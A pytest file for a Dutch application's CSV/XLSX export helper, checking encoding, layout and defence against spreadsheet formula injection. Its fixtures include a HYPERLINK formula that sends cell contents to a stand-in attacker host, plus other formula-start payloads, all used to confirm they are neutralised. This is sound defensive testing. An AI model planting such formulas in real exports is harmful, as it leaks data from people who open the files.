"""The one export helper: files that Dutch Excel opens right and that cannot attack whoever
opens them (issue 17), read back with independent parsers (the csv module, openpyxl)."""

from __future__ import annotations

import csv
import datetime
import io

import openpyxl
import pytest

from common.exports import (
    Sheet,
    csv_response,
    neutralise,
    table_response,
    xlsx_response,
)

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")'
DANGEROUS = [EVIL, "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
HEADER = ["Raad", "Titel", "Aantal", "Gemiddelde"]


def _rows():
    rows = [["Cliëntenraad Noord", text, i, -1.5] for i, text in enumerate(DANGEROUS)]
    rows.append(["Cliëntenraad Zuid", 'gewoon; met "aanhalingstekens"\nen een regel', -7, 0.25])
    return rows


def _csv(response) -> tuple[bytes, list[list[str]]]:
    body = b"".join(response.streaming_content)
    text = body.decode("utf-8")
    return body, list(
        csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";")
    )


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_formula_start_gets_a_quote_before_it(value):
    assert neutralise(value) == "'" + value


def test_numbers_dates_and_plain_text_stay_as_they_are():
    today = datetime.date(2026, 12, 7)
    assert neutralise(-2) == -2
    assert neutralise(-2.5) == -2.5
    assert neutralise(today) is today
    assert neutralise("Cliëntenraad") == "Cliëntenraad"
    assert neutralise(None) == ""
    assert neutralise("a=b") == "a=b"


def test_csv_is_utf8_with_bom_semicolons_and_crlf_and_neutralises_every_formula():
    response = csv_response(filename="proef.csv", header=HEADER, rows=iter(_rows()))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Cache-Control"] == "private, no-store"
    assert response["Content-Disposition"] == 'attachment; filename="proef.csv"'
    body, rows = _csv(response)
    assert body.startswith(b"\xef\xbb\xbfRaad;Titel;Aantal;Gemiddelde\r\n")
    assert "Cliëntenraad".encode() in body
    assert rows[0] == HEADER
    assert [row[1] for row in rows[1:7]] == ["'" + value for value in DANGEROUS]
    assert all(not row[1].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:])
    # Numbers stay numbers: a negative number is no formula; decimals with a comma (Dutch).
    assert rows[1][2:] == ["0", "-1,5"]
    assert rows[7] == [
        "Cliëntenraad Zuid",
        'gewoon; met "aanhalingstekens"\nen een regel',
        "-7",
        "0,25",
    ]


def test_csv_streams_a_generator_without_reading_it_first():
    seen = []

    def rows():
        for i in range(3):
            seen.append(i)
            yield [i]

    response = csv_response(filename="x.csv", header=["n"], rows=rows())
    assert seen == []
    assert b"".join(response.streaming_content) == b"\xef\xbb\xbfn\r\n0\r\n1\r\n2\r\n"


def test_xlsx_has_a_bold_frozen_header_text_as_text_and_numbers_as_numbers():
    response = xlsx_response(
        filename="proef.xlsx",
        sheets=[Sheet("Antwoorden", HEADER, iter(_rows())), ("Leeg: [x]", ["a"], [])],
    )
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Cache-Control"] == "private, no-store"
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook["Antwoorden"]
    assert workbook.sheetnames == ["Antwoorden", "Leeg- -x-"]
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    assert [cell.value for cell in sheet[1]] == HEADER
    titles = [sheet.cell(row=r, column=2) for r in range(2, 8)]
    assert [cell.value for cell in titles] == ["'" + value for value in DANGEROUS]
    assert all(cell.data_type == "s" for cell in titles)
    assert sheet.cell(row=2, column=1).value == "Cliëntenraad Noord"
    assert sheet.cell(row=3, column=3).value == 1
    assert sheet.cell(row=3, column=4).value == -1.5
    assert sheet.cell(row=8, column=3).value == -7
    widths = {col: sheet.column_dimensions[col].width for col in "ABCD"}
    assert 8 <= widths["C"] < widths["B"] <= 60
    assert widths["A"] >= len("Cliëntenraad Noord")


def test_xlsx_drops_control_characters_it_cannot_store_and_keeps_dates():
    when = datetime.datetime(2026, 12, 7, 9, 30, tzinfo=datetime.UTC)
    response = xlsx_response(
        filename="x.xlsx", sheets=[("Blad", ["tekst", "wanneer"], [["a\x01b", when]])]
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet["A2"].value == "ab"
    assert sheet["B2"].value == datetime.datetime(2026, 12, 7, 10, 30)  # Amsterdam


def test_table_response_gives_the_same_table_in_either_format():
    sheets = [("Samenvatting", ["Vraag", "Aantal"], [["=1+1", 3]])]
    _body, rows = _csv(table_response(fmt="csv", filename="samenvatting", sheets=sheets))
    assert rows == [["Vraag", "Aantal"], ["'=1+1", "3"]]
    xlsx = table_response(fmt="xlsx", filename="samenvatting", sheets=sheets)
    assert xlsx["Content-Disposition"] == 'attachment; filename="samenvatting.xlsx"'
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["Vraag", "Aantal"],
        ["'=1+1", 3],
    ]
    with pytest.raises(ValueError):
        table_response(fmt="ods", filename="x", sheets=sheets)
